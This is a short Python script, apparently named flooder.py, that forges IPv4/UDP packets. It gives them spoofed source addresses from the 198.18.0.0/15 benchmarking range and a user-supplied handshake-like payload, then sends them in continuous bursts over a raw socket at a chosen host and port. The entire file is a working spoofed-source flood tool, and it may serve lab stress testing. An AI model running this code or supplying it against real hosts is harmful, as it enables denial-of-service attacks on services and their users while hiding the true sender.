"""Hellos under other people's addresses, until the input ends: ``flooder.py HOST PORT HELLO``."""

import random
import socket
import struct
import sys
import threading
import time

HERE = 4096
"""Datagrams that are made beforehand."""
TOGETHER, PAUSE_S = 64, 0.0005


def main(host, port, hello):
    message, made = bytes.fromhex(hello), []
    to = socket.inet_aton(host)
    for _ in range(HERE):
        source = 198 << 24 | 18 << 16 | random.randrange(1 << 17)  # of nobody: RFC 2544
        total, udp = 28 + len(message), 8 + len(message)
        ip = struct.pack(">BBHHHBBHI4s", 0x45, 0, total, 0, 0, 64, 17, 0, source, to)
        ports = struct.pack(">HHHH", random.randrange(1024, 65536), int(port), udp, 0)
        made.append(ip + ports + message[:64] + random.randbytes(16) + message[80:])
    over = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), over.set()), daemon=True).start()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        print("floods", flush=True)
        at = 0
        while not over.is_set():
            for each in made[at : at + TOGETHER]:
                raw.sendto(each, (host, 0))
            at = (at + TOGETHER) % HERE
            time.sleep(PAUSE_S)


if __name__ == "__main__":
    main(*sys.argv[1:])
